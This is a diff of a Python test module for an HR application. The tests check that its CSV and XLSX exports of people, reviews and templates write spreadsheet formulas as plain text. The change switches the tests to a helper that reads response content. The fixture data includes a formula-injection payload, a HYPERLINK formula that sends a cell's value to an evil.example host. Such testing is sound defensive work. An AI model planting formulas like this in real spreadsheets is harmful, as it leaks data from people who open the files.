@@ -17,6 +17,7 @@ from rest_framework.test import APIClient
 from core.tabular import FORMULA_TRIGGERS, unescape_cell
 from people.models import Employee, OrgUnit
 from reviewcycle.models import Review, ReviewCycle
+from tests.downloads import content
 
 HOSTILE = {
     "employee": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
@@ -85,15 +86,15 @@ def test_every_api_export_writes_formulas_as_text(hostile, org, file_format, lan
     people = hr.get(f"/api/v1/people/export/?format={file_format}&language={language}")
     assert people.status_code == 200
     # The people export names the unit by its path ("Gemeente Proef / =1+1"): only the start of a cell counts.
-    assert_text_only(people.content, file_format, [HOSTILE[key] for key in PEOPLE])
+    assert_text_only(content(people), file_format, [HOSTILE[key] for key in PEOPLE])
     reviews = hr.get(
         f"/api/v1/reviews/export/?cycle={hostile.cycle_id}&format={file_format}&language={language}"
     )
     assert reviews.status_code == 200
-    assert_text_only(reviews.content, file_format, [HOSTILE[key] for key in REVIEWS])
+    assert_text_only(content(reviews), file_format, [HOSTILE[key] for key in REVIEWS])
     template = hr.get(f"/api/v1/people/template/?format={file_format}&language={language}")
     assert template.status_code == 200
-    assert_text_only(template.content, file_format, [])
+    assert_text_only(content(template), file_format, [])
 
 
 @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
